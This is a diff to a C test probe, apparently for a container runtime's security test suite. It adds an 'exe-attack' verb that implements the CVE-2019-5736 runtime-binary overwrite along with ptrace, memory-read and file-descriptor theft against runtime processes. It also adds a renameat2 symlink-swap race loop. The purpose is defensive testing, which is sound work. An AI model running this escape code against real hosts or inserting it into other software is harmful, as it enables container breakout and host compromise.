@@ -5,6 +5,7 @@
 // Exit codes: 0 on success; for verbs that touch a path, the errno of the failing call
 // (so tests can check EROFS, EACCES, ...); 2 for usage errors.
 #include <dirent.h>
+#include <stddef.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <grp.h>
@@ -16,12 +17,17 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/uio.h>
+#include <sys/un.h>
 #include <sys/personality.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
 #include <sys/utsname.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -32,7 +38,7 @@ static int usage(void) {
       "usage: probe VERB [ARGS]\n"
       "verbs: id caps hostname mounts cat write ls stat ns rlimits oom personality env cwd\n"
       "       fds sigs exit kill-self sleep pid sysctl mknod-test readlink echo-stdin\n"
-      "       write-stdout write-stderr mkdir alloc\n",
+      "       write-stdout write-stderr mkdir alloc connect cwd-check exe-attack swap-loop\n",
       stderr);
   return 2;
 }
@@ -570,6 +576,208 @@ static int vAlloc(char** a) {
   return 0;
 }
 
+
+/* connect PATH: a Unix stream connect; "@name" is an abstract address. Prints connect=ERRNO
+   and exits with it. */
+static int vConnect(char** a) {
+  struct sockaddr_un addr;
+  memset(&addr, 0, sizeof addr);
+  addr.sun_family = AF_UNIX;
+  size_t len = strlen(a[0]);
+  if (len >= sizeof addr.sun_path) return usage();
+  memcpy(addr.sun_path, a[0], len);
+  if (a[0][0] == '@') addr.sun_path[0] = '\0';
+  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (s < 0) return fail("socket", a[0]);
+  socklen_t alen = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len);
+  int r = connect(s, (struct sockaddr*)&addr, alen);
+  int err = r == 0 ? 0 : errno;
+  close(s);
+  printf("connect=%d\n", err);
+  return err;
+}
+
+/* cwd-check: where the process's working directory really is. getcwd (cwd=PATH or
+   cwd_errno=E; the kernel prefixes "(unreachable)" for a directory outside the root) and
+   whether stat(".") is the same inode as stat(PATH) looked up from the root (same=1). */
+static int vCwdCheck(char** a) {
+  (void)a;
+  char buf[PATH_MAX];
+  struct stat dot, byPath;
+  if (stat(".", &dot) != 0) return fail("stat", ".");
+  if (!getcwd(buf, sizeof buf)) {
+    printf("cwd_errno=%d\nsame=0\n", errno);
+    return 0;
+  }
+  int same = buf[0] == '/' && stat(buf, &byPath) == 0 && byPath.st_dev == dot.st_dev &&
+             byPath.st_ino == dot.st_ino;
+  printf("cwd=%s\nsame=%d\n", buf, same);
+  return 0;
+}
+
+/* exe-attack SECS: the CVE-2019-5736 attacker, plus ptrace and fd theft. For SECS seconds it
+   scans the pid namespace for processes that are not running a binary of this container (the
+   runtime's processes while `exec` joins the container) and, for each:
+     - open /proc/PID/exe O_PATH (refused while the runtime is non-dumpable): grabbed
+     - reopen that fd O_WRONLY through /proc/self/fd (CVE-2019-5736) and write a marker
+       (write_open_ok: opened, which a sealed memfd allows; write_ok: written)
+     - PTRACE_SEIZE, process_vm_readv and pidfd_getfd of fd 0..15
+   The last three only against processes whose exe was refused (the runtime's own, not
+   dumpable; a dumpable one runs as a user of this container and is fair game).
+   Prints counters: seen, exe_denied, grabbed, write_ok, ptrace_ok, vmread_ok, getfd_ok. A
+   grabbed exe is kept and retried until the end: the runtime's own binary is busy (ETXTBSY)
+   only while it runs. */
+static int isLocalBinary(const struct stat* st, const struct stat* locals, int n) {
+  for (int i = 0; i < n; i++)
+    if (locals[i].st_dev == st->st_dev && locals[i].st_ino == st->st_ino) return 1;
+  return 0;
+}
+
+static int stillSealed(int pid) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
+  int fd = open(path, O_PATH | O_CLOEXEC);
+  if (fd >= 0) close(fd);
+  return fd < 0 && (errno == EACCES || errno == EPERM);
+}
+
+static int vExeAttack(char** a) {
+  double secs = atof(a[0]);
+  struct stat locals[4];
+  int nlocal = 0;
+  const char* mine[] = {"/proc/self/exe", "/bin/busybox", "/probe"};
+  for (int i = 0; i < 3; i++)
+    if (stat(mine[i], &locals[nlocal]) == 0) nlocal++;
+  int held[16];
+  int nheld = 0;
+  long seen = 0, denied = 0, grabbed = 0, openOk = 0, writeOk = 0;
+  long ptraceOk = 0, vmOk = 0, getfdOk = 0;
+  int lastWriteErr = 0, lastPtraceErr = 0;
+  struct timespec t0, now;
+  clock_gettime(CLOCK_MONOTONIC, &t0);
+  // One bit per pid: each foreign pid is attacked once, and grabbed once.
+  static unsigned tried[4194304 / 32 + 1], grabbedPid[4194304 / 32 + 1];
+  for (;;) {
+    clock_gettime(CLOCK_MONOTONIC, &now);
+    if ((double)(now.tv_sec - t0.tv_sec) + (double)(now.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
+    DIR* d = opendir("/proc");
+    if (!d) return fail("opendir", "/proc");
+    struct dirent* e;
+    while ((e = readdir(d)) != NULL) {
+      int pid = atoi(e->d_name);
+      if (pid <= 1 || pid == getpid() || pid > 4194304) continue;
+      if (grabbedPid[pid / 32] & (1u << (pid % 32))) continue;
+      char path[64];
+      snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      int fd = open(path, O_PATH | O_CLOEXEC);
+      struct stat st;
+      if (fd >= 0 && (fstat(fd, &st) != 0 || isLocalBinary(&st, locals, nlocal))) {
+        close(fd);
+        continue;  // one of ours (or gone): not a target
+      }
+      if (fd < 0 && errno != EACCES && errno != EPERM) continue;  // gone, or a kernel thread
+      // One pid may be refused first (the runtime's child) and open later (the same process
+      // after it exec'd the runtime's binary again through #!/proc/self/exe).
+      int first = !(tried[pid / 32] & (1u << (pid % 32)));
+      tried[pid / 32] |= 1u << (pid % 32);
+      if (first) seen++;
+      if (fd >= 0) {
+        grabbedPid[pid / 32] |= 1u << (pid % 32);
+        char target[PATH_MAX], cmd[256] = "";
+        ssize_t tn = readlink(path, target, sizeof target - 1);
+        target[tn < 0 ? 0 : tn] = '\0';
+        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+        int cfd = open(path, O_RDONLY | O_CLOEXEC);
+        if (cfd >= 0) {
+          ssize_t cn = read(cfd, cmd, sizeof cmd - 1);
+          cmd[cn < 0 ? 0 : cn] = '\0';
+          for (ssize_t k = 0; k + 1 < cn; k++)
+            if (cmd[k] == '\0') cmd[k] = ' ';
+          close(cfd);
+        }
+        printf("grab=%d %s [%s]\n", pid, target, cmd);
+        fflush(stdout);
+        grabbed++;
+        if (nheld < 16) held[nheld++] = fd;
+        else close(fd);
+        continue;  // dumpable: running as this container's user; nothing to steal there
+      }
+      if (!first) continue;
+      denied++;
+      // Each success counts only if the target still refuses its exe afterwards: a process
+      // that has exec'd the container's program in between is the container's own.
+      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+        if (stillSealed(pid)) ptraceOk++;
+        // Let go cleanly (a tracee left attached would stop on its next signal).
+        int wst;
+        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+        waitpid(pid, &wst, __WALL);
+        ptrace(PTRACE_DETACH, pid, 0, 0);
+      } else {
+        lastPtraceErr = errno;
+      }
+      char byte;
+      struct iovec local = {&byte, 1}, remote = {(void*)0x400000, 1};
+      if ((syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) &&
+          stillSealed(pid))
+        vmOk++;
+      int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
+      if (pfd >= 0) {
+        for (int target = 0; target < 16; target++) {
+          int got = (int)syscall(SYS_pidfd_getfd, pfd, target, 0);
+          if (got >= 0) {
+            if (stillSealed(pid)) getfdOk++;
+            close(got);
+          }
+        }
+        close(pfd);
+      }
+    }
+    closedir(d);
+    for (int i = 0; i < nheld; i++) {
+      if (held[i] < 0) continue;
+      char path[64];
+      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+      int w = open(path, O_WRONLY | O_CLOEXEC);
+      if (w < 0) {
+        lastWriteErr = errno;
+        continue;
+      }
+      openOk++;
+      if (pwrite(w, "SVES-PWNED", 10, 0) == 10) writeOk++;
+      else lastWriteErr = errno;
+      close(w);
+      close(held[i]);
+      held[i] = -1;
+    }
+  }
+  printf("seen=%ld\nexe_denied=%ld\ngrabbed=%ld\nwrite_open_ok=%ld\nwrite_ok=%ld\n", seen,
+         denied, grabbed, openOk, writeOk);
+  printf("write_errno=%d\nptrace_ok=%ld\nptrace_errno=%d\nvmread_ok=%ld\ngetfd_ok=%ld\n",
+         lastWriteErr, ptraceOk, lastPtraceErr, vmOk, getfdOk);
+  return 0;
+}
+
+/* swap-loop A B SECS: exchanges A and B (say a directory and a symlink) with
+   renameat2(RENAME_EXCHANGE) as fast as it can for SECS seconds; prints swaps=N. */
+static int vSwapLoop(char** a) {
+  double secs = atof(a[2]);
+  struct timespec t0, now;
+  clock_gettime(CLOCK_MONOTONIC, &t0);
+  long n = 0;
+  for (;;) {
+    for (int i = 0; i < 256; i++) {
+      if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], 2 /* RENAME_EXCHANGE */) != 0)
+        return fail("renameat2", a[0]);
+      n++;
+    }
+    clock_gettime(CLOCK_MONOTONIC, &now);
+    if ((double)(now.tv_sec - t0.tv_sec) + (double)(now.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
+  }
+  printf("swaps=%ld\n", n);
+  return 0;
+}
+
 static const struct {
   const char* name;
   int minArgs;
@@ -604,6 +812,10 @@ static const struct {
     {"write-stderr", 1, vWriteStderr},
     {"mkdir", 1, vMkdir},
     {"alloc", 1, vAlloc},
+    {"connect", 1, vConnect},
+    {"cwd-check", 0, vCwdCheck},
+    {"exe-attack", 1, vExeAttack},
+    {"swap-loop", 3, vSwapLoop},
 };
 
 int main(int argc, char** argv) {
